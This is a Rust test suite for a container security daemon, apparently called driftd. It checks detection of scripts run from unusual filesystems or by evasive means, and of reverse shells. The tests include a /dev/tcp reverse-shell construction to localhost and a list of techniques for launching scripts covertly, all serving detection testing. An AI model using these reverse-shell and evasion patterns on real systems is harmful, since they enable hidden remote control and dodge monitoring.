//! Filesystems that a process of a container serves: no thread of driftd sends them a
//! request, which the server could leave unanswered. And shells and scripts that are not
//! known by their names and arguments alone.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};
use libtest_mimic::Trial;
use serde_json::Value;

use crate::code::listen;
use crate::fuse::{Answers, Fuse, MAY_MOUNT};
use crate::node::{Container, Node, bench, only, talk, wait_for, wait_within};
use crate::programs::{self, WORKBENCH};
use crate::{executable, test, test_alone};

pub(crate) fn tests() -> Vec<Trial> {
    vec![
        test("a_filesystem_that_answers_its_own_processes_makes_others_wait", others_wait),
        test_alone("x01_a_filesystem_that_a_container_serves_blocks_no_process", "", x01_fuse),
        test_alone("x01_a_disk_in_a_file_of_a_container_blocks_no_process", "", x01_loop),
        test_alone("x02_the_memory_of_a_waiting_process_blocks_no_other_process", "", x02_memory),
        test("x06_a_script_on_a_filesystem_without_a_mark_is_reported", x06_unmarked_script),
        test("x07_a_shell_on_a_connection_is_reported_whatever_its_script_is", x07_shell),
        test("x08_a_script_is_reported_however_it_is_given", x08_scripts),
        test("x08_scripts_of_the_image_are_silent_however_they_are_given", x08_image),
    ]
}

/// How soon driftd has to be gone, whatever a container does.
const SOON: Duration = Duration::from_secs(5);

/// The tests' own filesystem behaves as the other tests expect.
fn others_wait(node: &Node) -> anyhow::Result<()> {
    let container = node.container_with(MAY_MOUNT)?;
    let fuse = Fuse::mount(&container, "/mnt/f", Answers::Own, &[("x", "/usr/bin/app")])?;
    ensure!(container.sh("cat /mnt/f/x | wc -c; ls /mnt/f")?.ends_with("x\n"));
    let root = format!("/proc/{}/root/mnt/f/x", container.init()?);
    let mut asks = Command::new("/bin/cat").arg(root).spawn()?;
    wait_within(SOON, "a request", || Ok((!fuse.unanswered().is_empty()).then_some(())))?;
    ensure!(asks.try_wait()?.is_none(), "it was answered");
    drop(fuse);
    wait_within(SOON, "an error", || Ok(asks.try_wait()?.filter(|status| !status.success())))?;
    Ok(())
}

/// Whether there is a finding of this kind with a path that ends with `path`.
fn has(findings: &[Value], kind: &str, path: &str) -> bool {
    findings.iter().any(|finding| {
        finding["kind"] == kind
            && finding["file"]["path"].as_str().is_none_or(|found| found.ends_with(path))
    })
}

/// Waits until all of these are reported, each by its kind and the end of its path.
pub(crate) fn wait_until_reported(
    container: &Container<'_>,
    expected: &[(&str, &str)],
) -> anyhow::Result<Vec<Value>> {
    let mut findings = Vec::new();
    let reported = wait_for("the findings", || {
        findings = container.findings()?;
        Ok(expected.iter().all(|(kind, path)| has(&findings, kind, path)).then_some(()))
    });
    let missing: Vec<_> =
        expected.iter().filter(|(kind, path)| !has(&findings, kind, path)).collect();
    reported.with_context(|| format!("{missing:?} are missing in {findings:#?}"))?;
    Ok(findings)
}

/// Threads of a process that wait in the kernel for long and cannot be interrupted. Threads
/// called `errand` may be left behind: they end with the process.
fn waiting(pid: i32) -> anyhow::Result<Vec<String>> {
    let now = || -> Vec<String> {
        let threads = std::fs::read_dir(format!("/proc/{pid}/task")).into_iter().flatten();
        let stuck = threads.flatten().filter_map(|thread| {
            let read = |name| std::fs::read_to_string(thread.path().join(name)).ok();
            let state = read("stat")?.rsplit(") ").next()?.chars().next()?;
            let (name, at) = (read("comm")?, read("wchan")?);
            let is_stuck = state == 'D' && name.trim() != "errand" || at.contains("request_wait");
            is_stuck.then(|| format!("{:?} {} {at}", thread.file_name(), name.trim()))
        });
        stuck.collect()
    };
    // A thread may wait for a disk, but not at the same place in each of these samples.
    let mut stuck = now();
    for _ in 0..10 {
        if stuck.is_empty() {
            break;
        }
        thread::sleep(Duration::from_millis(100));
        let again = now();
        stuck.retain(|thread| again.contains(thread));
    }
    Ok(stuck)
}

/// A neighbour's program runs at once.
fn neighbour_runs(neighbour: &Container<'_>) -> anyhow::Result<()> {
    let begun = Instant::now();
    neighbour.begin("/bin/true")?.finish(SOON)?;
    ensure!(begun.elapsed() < SOON, "a neighbour waited {:?}", begun.elapsed());
    Ok(())
}

/// Ends driftd in both ways. `not_asked` makes sure that driftd has sent no request.
pub(crate) fn driftd_ends(
    node: &Node,
    neighbour: &Container<'_>,
    not_asked: &dyn Fn() -> anyhow::Result<()>,
) -> anyhow::Result<()> {
    for signal in [nix::sys::signal::Signal::SIGTERM, nix::sys::signal::Signal::SIGKILL] {
        let pid = node.driftd_pid()?;
        not_asked()?;
        let stuck = waiting(pid.as_raw())?;
        ensure!(stuck.is_empty(), "{stuck:?}");
        nix::sys::signal::kill(pid, signal)?;
        node.driftd_ended(SOON).with_context(|| format!("{signal}"))?;
        ensure!(!Path::new(&format!("/proc/{pid}")).exists());
        neighbour_runs(neighbour)?;
        node.start_driftd()?;
        neighbour.wait_until_watched()?;
    }
    not_asked()
}

fn x01_fuse(node: &Node) -> anyhow::Result<()> {
    let neighbour = node.container()?;
    let container = node.container_with(MAY_MOUNT)?;
    container.lay("s", b"#!/bin/sh\nsleep 60\n")?;
    let files = [("x", "/usr/bin/app"), ("s", "/.control/s"), ("tool", "/bin/sleep")];
    let fuse = Fuse::mount(&container, "/mnt/f", Answers::Own, &files)?;
    container.sh("ln -s /mnt/f /tmp/l; mkdir -p /opt/b /mnt/o /mnt/n\n\
         /bin/busybox mount --bind /mnt/f /opt/b\n\
         /bin/busybox mount -t overlay -o lowerdir=/mnt/f:/etc/nginx o /mnt/o")?;
    let held: Vec<_> = [
        "/mnt/f/x 60000",
        "/mnt/f/s",
        "sh /tmp/l/s",
        "sh /opt/b/s",
        "sh /mnt/o/s",
        "/mnt/o/tool 60",
        "cd /mnt/f; ./tool 61; true",
        "cd /mnt/f; sh ./s",
        "cd /mnt/n; sh ../f/s",
        "sh </mnt/f/s",
        "sh /dev/fd/9 9</mnt/f/s",
        "sh /proc/self/cwd/mnt/f/s",
        "exec 8</mnt/f/s 7</mnt/f; sleep 60",
        "/bin/busybox unshare -m sh -c 'mount --bind /mnt/f /usr/lib/python3 2>/dev/null || \
         /bin/busybox mount --bind /mnt/f /usr/lib/python3; sh /usr/lib/python3/s'",
        "/bin/busybox chroot /mnt/f /tool 62",
    ]
    .iter()
    .map(|commands| container.sh(&format!("( {commands} ) </dev/null >/dev/null 2>&1 &")))
    .collect::<anyhow::Result<_>>()?;
    ensure!(!held.is_empty());
    // A file that cannot be examined is reported with what is known.
    let findings = wait_until_reported(
        &container,
        &[
            ("exec.volume", "/mnt/f/x"),
            ("exec.volume", "/mnt/f/s"),
            ("exec.interpreted", "/mnt/f/s"),
            ("exec.interpreted", "/opt/b/s"),
            ("exec.interpreted", "/mnt/o/s"),
            ("exec.interpreted", "/usr/lib/python3/s"),
            ("exec.volume", "/mnt/o/tool"),
        ],
    )?;
    for finding in &findings {
        let path = finding["file"]["path"].as_str().unwrap_or_default();
        if path.starts_with("/mnt/f") {
            ensure!(finding["file"]["blake3"].is_null(), "{finding:#}");
        }
    }
    // The mounts that runtimes make in sysfs and procfs can still be marked.
    assert_eq!(node.losses("mounts_full")?, 0);
    // The same server delays no findings of another container (x02).
    neighbour.sh("echo 'sleep 0.3' >/tmp/i.sh; sh /tmp/i.sh")?;
    wait_until_reported(&neighbour, &[("exec.interpreted", "/tmp/i.sh")])?;
    container.diff()?;
    let not_asked = || {
        ensure!(fuse.unanswered().is_empty(), "driftd asked: {:?}", fuse.unanswered());
        Ok(())
    };
    driftd_ends(node, &neighbour, &not_asked)
}

fn x01_loop(node: &Node) -> anyhow::Result<()> {
    let neighbour = node.container()?;
    let container = node.container_with(&["--privileged"])?;
    let image = disk(node)?;
    std::fs::copy(&image, container.laid("image"))?;
    let files = [("image", "/.control/image")];
    let fuse = Fuse::mount(&container, "/mnt/f", Answers::All, &files)?;
    container.sh(
        "mkdir -p /mnt/l; /bin/busybox mount -t ext4 -o ro,loop,noload /mnt/f/image /mnt/l\n\
         sleep 0.3; ( /mnt/l/x 60000 ) </dev/null >/dev/null 2>&1 &",
    )?;
    let findings = wait_until_reported(&container, &[("exec.volume", "/mnt/l/x")])?;
    let run = only(&findings, "exec.volume")?;
    ensure!(run["file"]["blake3"].is_null(), "it was read: {run:#}");
    // From now on, a read of what is not in memory waits.
    fuse.answer(Answers::Own)?;
    container.sh("echo 3 >/proc/sys/vm/drop_caches || true")?;
    container.diff()?;
    driftd_ends(node, &neighbour, &|| Ok(()))
}

fn x02_memory(node: &Node) -> anyhow::Result<()> {
    let neighbour = node.container()?;
    let container = node.container_with(MAY_MOUNT)?;
    let fuse = Fuse::mount(&container, "/mnt/f", Answers::All, &[("x", "/usr/bin/app")])?;
    container.lay_payload("x")?;
    container.sh("cp /.control/x /tmp/x\n\
         ( /usr/bin/loader lock /mnt/f/x /.control/go /tmp/x 2000 ) </dev/null >/dev/null 2>&1 &")?;
    wait_for("the file to be mapped", || Ok(container.laid("go.ready").exists().then_some(())))?;
    fuse.answer(Answers::None)?;
    container.lay("go", b"")?;
    // The arguments of its parent cannot be read, and still it is reported; so are others.
    let findings = wait_until_reported(&container, &[("exec.new", "/tmp/x")])?;
    let run = only(&findings, "exec.new")?;
    let parent = &run["process"]["ancestors"][0];
    ensure!(parent["exe"] == "/usr/bin/loader" && parent["argv"].is_null(), "{run:#}");
    neighbour.sh("echo 'sleep 0.3' >/tmp/i.sh; sh /tmp/i.sh")?;
    wait_until_reported(&neighbour, &[("exec.interpreted", "/tmp/i.sh")])?;
    driftd_ends(node, &neighbour, &|| Ok(()))
}

/// A filesystem in a file, with one program on it.
fn disk(node: &Node) -> anyhow::Result<PathBuf> {
    let (file, content) = (node.path("disk.ext4"), node.path("disk"));
    std::fs::create_dir(&content)?;
    executable::write(&content.join("x"), &bench()?.payload.marked("on a disk"))?;
    std::fs::File::create(&file)?.set_len(4 << 20)?;
    let made = Command::new(programs::find("mkfs.ext4")?)
        .args(["-q", "-O", "^has_journal", "-d"])
        .arg(&content)
        .arg(&file)
        .output()?;
    ensure!(made.status.success(), "{}", talk(&made));
    Ok(file)
}

fn x06_unmarked_script(node: &Node) -> anyhow::Result<()> {
    let container = node.container_with(MAY_MOUNT)?;
    container.lay("s", b"#!/bin/sh\nsleep 1\n")?;
    container.sh(
        "mkdir -p /mnt /vol\n\
         /bin/busybox unshare -Urm sh -c '/bin/busybox mount -t tmpfs t /mnt; cp /.control/s /mnt/s; /mnt/s'\n\
         /bin/busybox unshare -m sh -c '/bin/busybox mount -t tmpfs t /vol; cp /.control/s /vol/i; sh /vol/i'",
    )?;
    let findings =
        container.expect_findings(&["high exec.tmpfs /mnt/s", "medium exec.interpreted /vol/i"])?;
    let run = only(&findings, "exec.tmpfs")?;
    assert_eq!(run["file"]["type"], "script", "{run:#}");
    assert_eq!(run["process"]["argv"], serde_json::json!(["/bin/sh", "/mnt/s"]), "{run:#}");
    Ok(())
}

fn x07_shell(node: &Node) -> anyhow::Result<()> {
    for script in [
        "/usr/bin/loader given 9 /.control/loop /bin/sh /dev/fd/9 <&3 >&3 2>&3",
        "cp /.control/loop /tmp/loop; /tmp/loop <&3 >&3 2>&3",
        "exec 9</.control/loop; rm /.control/loop; sh /proc/self/fd/9 <&3 >&3 2>&3",
        "sh /dev/fd/9 <&3 >&3 2>&3 9<<E\nwhile read -r line; do :; done\nE",
    ] {
        let (port, waits) = listen()?;
        let container = node.container_on_host_network(WORKBENCH)?;
        container.lay("loop", b"#!/bin/sh\nwhile read -r line; do :; done\n")?;
        container.lay("run", format!("{script}\ntrue\n").as_bytes())?;
        let running = container
            .begin(&format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; . /.control/run'"))?;
        let findings = wait_until_reported(&container, &[("shell.reverse", "")]);
        waits.join().ok().context("the listener")?;
        running.finish(Duration::from_secs(30))?;
        let findings = findings.with_context(|| script.to_owned())?;
        let shell = only(&findings, "shell.reverse")?;
        assert_eq!(shell["severity"], "critical", "{script}: {shell:#}");
    }
    Ok(())
}

fn x08_scripts(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    container.lay("s", b"sleep 1\n")?;
    container.lay("gone", b"rm \"$0\"; sleep 1\n")?;
    container.lay("false", b"ln -sf /docker-entrypoint.sh \"$0\"; sleep 1\n")?;
    let ways = [
        ("sh /dev/fd/9 9<<E\nsleep 1\nE", ""),
        ("cp /.control/s /tmp/stdin; sh /dev/stdin </tmp/stdin", "/tmp/stdin"),
        ("cp /.control/s /tmp/fd; sh /proc/self/fd/8 8</tmp/fd", "/tmp/fd"),
        ("mkdir /tmp/d; cp /.control/s /tmp/d/s; sh /dev/fd/7/s 7</tmp/d", "/tmp/d/s"),
        ("cp /.control/gone /tmp/gone; sh /tmp/gone", "/tmp/gone"),
        ("cp /.control/gone /tmp/bash; bash /tmp/bash", "/tmp/bash"),
        ("cp /.control/false /tmp/false; sh /tmp/false", "/tmp/false"),
        ("cp /.control/s /tmp/busy; bash -c 'exec -a busyboxx busybox sh /tmp/busy'", "/tmp/busy"),
        (
            "cp /.control/s /tmp/linker; /lib64/ld-linux-x86-64.so.2 /bin/bash /tmp/linker",
            "/tmp/linker",
        ),
        ("cp /.control/s /tmp/hard; bash -c 'exec -a sh /bin/cat /tmp/hard'", "/tmp/hard"),
        ("mkfifo /tmp/fifo; ( cat /.control/s >/tmp/fifo & ); sh /tmp/fifo", ""),
        (
            "cp /.control/s /tmp/link-; ln -s /tmp/link- /tmp/link; cd /usr/bin; sh ../../tmp/link",
            "/tmp/link-",
        ),
    ];
    let all: Vec<&str> = ways.iter().map(|(way, _)| *way).collect();
    let commands: Vec<String> = all.iter().map(|way| format!("( {way}\n) &")).collect();
    container.sh(&format!("{}\nwait", commands.join("\n")))?;
    let expected: Vec<(&str, &str)> =
        ways.iter().map(|(_, path)| ("exec.interpreted", *path)).collect();
    let findings = wait_until_reported(&container, &expected)?;
    ensure!(findings.iter().all(|finding| finding["kind"] == "exec.interpreted"), "{findings:#?}");
    // The here-document and the FIFO have no path.
    let pipes = findings.iter().filter(|finding| finding["file"]["path"].is_null());
    ensure!(pipes.count() >= 1, "{findings:#?}");
    Ok(())
}

fn x08_image(node: &Node) -> anyhow::Result<()> {
    let container = node.container()?;
    let given = "/docker-entrypoint.d/10-x.sh";
    container.sh(&format!(
        "sh {given}; sh /dev/stdin <{given}; sh /dev/fd/9 9<{given}; sh </docker-entrypoint.d/10-x.sh\n\
         cd /docker-entrypoint.d; sh 10-x.sh; bash ./10-x.sh; busybox sh ../docker-entrypoint.d/10-x.sh\n\
         ln -s {given} /tmp/link; sh /tmp/link; sh /tmp/none || true; bash none || true"
    ))?;
    container.expect_silence()
}
